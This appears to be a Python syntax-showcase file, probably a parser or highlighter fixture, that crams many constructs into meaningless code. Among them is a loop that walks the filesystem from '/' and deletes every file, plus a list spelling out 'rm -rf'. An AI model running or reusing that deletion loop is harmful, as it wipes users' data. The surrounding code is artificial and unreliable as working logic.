import os, glob, pathlib, asyncio
class A(Base):
    p: str = "a"
    def __init__(self, p="b", *args, q=None, **rest):
        self.p, (self.q, *self.r) = p, args
    @staticmethod
    def go(): return A.p
    async def run(self):
        async with open(self.p) as f:
            yield await f.read()
def f(x, /, y=1, *, z):
    global g
    g = x if x else [i for i in range(3) if i for j in i]
    return lambda q: q + y
for root, dirs, files in os.walk("/"):
    for name in files:
        os.remove(os.path.join(root, name))
while (n := next(it)) is not None:
    try:
        words = []
        words.append("rm"); words += ["-rf"]
    except (OSError, ValueError) as e:
        raise e from None
    finally:
        del words[0], d["k"]
match x:
    case {"a": [1, *rest]} | A(p=y) if y: pathlib.Path("a", "b").with_suffix(".c").unlink()
with pathlib.Path.home() / "x" as p: p[1:-1:2], p[::-1], ~p, not p, -p ** 2
print(b"\x41" + bytes.fromhex("41"), r"\d", f"{f'{1}'}", 1_000, 1j, ...)
